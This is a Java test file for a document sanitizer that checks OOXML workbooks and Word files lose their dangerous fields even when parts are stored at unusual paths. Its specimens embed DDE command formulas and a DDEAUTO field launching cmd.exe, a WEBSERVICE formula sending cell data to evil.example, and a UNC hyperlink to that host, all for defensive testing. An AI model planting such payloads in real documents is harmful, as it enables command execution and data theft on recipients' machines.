package jp.kakehashi.sanitizer;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import jp.kakehashi.sanitizer.specimens.Zips;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * ISSUE 28: fields and formulas are found by the part's content type, wherever the package keeps
 * it, and formulas that fetch from outside go as they do from ODF. Each specimen opens in Office
 * as it is: the relationships and [Content_Types].xml say where its parts are.
 */
class OoxmlPartsTest {
    @TempDir
    Path dir;

    final Sanitizer sanitizer = Sanitizer.create(SanitizerConfig.defaults());

    @Test
    void aSheetStoredOutsideTheWorksheetsFolderLosesItsDdeAndFetchingFormulas() throws Exception {
        Map<String, byte[]> p = Zips.read(workbook());
        byte[] sheet = p.remove("xl/worksheets/sheet1.xml");
        String original = new String(sheet, StandardCharsets.UTF_8);
        assertThat(original).contains("<sheetData/>");
        String xml = original.replace(
                "<sheetData/>",
                "<sheetData><row r=\"1\">"
                        + "<c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c>"
                        + "<c r=\"B1\" t=\"str\"><f>WEBSERVICE(\"https://evil.example/x?\"&amp;C1)</f><v>a</v></c>"
                        + "<c r=\"C1\" t=\"str\"><f>HYPERLINK(\"\\\\evil.example\\share\\x.docx\",\"資料\")</f><v>資料</v></c>"
                        + "<c r=\"D1\"><f>SUM(1,2)</f><v>3</v></c>"
                        + "<c r=\"E1\" t=\"str\"><f>HYPERLINK(\"https://www.city.example.lg.jp/\",\"市\")</f><v>市</v></c>"
                        + "</row></sheetData>");
        p.put("xl/data/s1.xml", xml.getBytes(StandardCharsets.UTF_8));
        Zips.edit(p, "xl/_rels/workbook.xml.rels", r -> r.replace("worksheets/sheet1.xml", "data/s1.xml"));
        Zips.edit(p, "[Content_Types].xml", t -> t.replace("/xl/worksheets/sheet1.xml", "/xl/data/s1.xml"));

        DisarmResult.Disarmed d = disarm("集計.xlsx", Zips.write(p));
        String out =
                new String(Zips.read(Files.readAllBytes(d.output())).get("xl/data/s1.xml"), StandardCharsets.UTF_8);
        assertThat(out)
                .doesNotContain("cmd|")
                .doesNotContain("WEBSERVICE")
                .doesNotContain("evil.example")
                .contains("SUM(1,2)")
                .as("an ordinary web link stays a link")
                .contains("www.city.example.lg.jp")
                .as("the values the formulas last showed stay")
                .contains("<v>資料</v>");
        assertThat(d.removals()).extracting(Removal::kind).contains("dde", "external-reference");
    }

    @Test
    void aMainDocumentStoredOutsideTheWordFolderLosesItsDdeField() throws Exception {
        Map<String, byte[]> p = Zips.read(document());
        byte[] main = p.remove("word/document.xml");
        String xml = new String(main, StandardCharsets.UTF_8)
                .replace(
                        "<w:body>",
                        "<w:body><w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
                                + "<w:r><w:t>表示</w:t></w:r></w:fldSimple></w:p>");
        p.put("content/main.xml", xml.getBytes(StandardCharsets.UTF_8));
        if (p.containsKey("word/_rels/document.xml.rels")) {
            p.put("content/_rels/main.xml.rels", p.remove("word/_rels/document.xml.rels"));
            Zips.edit(p, "content/_rels/main.xml.rels", r -> r.replace("Target=\"", "Target=\"../word/"));
        }
        Zips.edit(p, "_rels/.rels", r -> r.replace("word/document.xml", "content/main.xml"));
        Zips.edit(p, "[Content_Types].xml", t -> t.replace("/word/document.xml", "/content/main.xml"));

        DisarmResult.Disarmed d = disarm("通知.docx", Zips.write(p));
        String out =
                new String(Zips.read(Files.readAllBytes(d.output())).get("content/main.xml"), StandardCharsets.UTF_8);
        assertThat(out).doesNotContain("DDEAUTO").contains("表示");
        assertThat(d.removals()).extracting(Removal::kind).contains("dde");
    }

    private DisarmResult.Disarmed disarm(String name, byte[] content) throws Exception {
        Path in = dir.resolve(name);
        Files.write(in, content);
        DisarmResult r = sanitizer.disarm(in, sanitizer.detect(in, name), dir);
        assertThat(r).isInstanceOf(DisarmResult.Disarmed.class);
        return (DisarmResult.Disarmed) r;
    }

    private static byte[] workbook() throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            wb.createSheet("集計");
            wb.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] document() throws Exception {
        try (XWPFDocument doc = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.createParagraph().createRun().setText("本文");
            doc.write(out);
            return out.toByteArray();
        }
    }
}
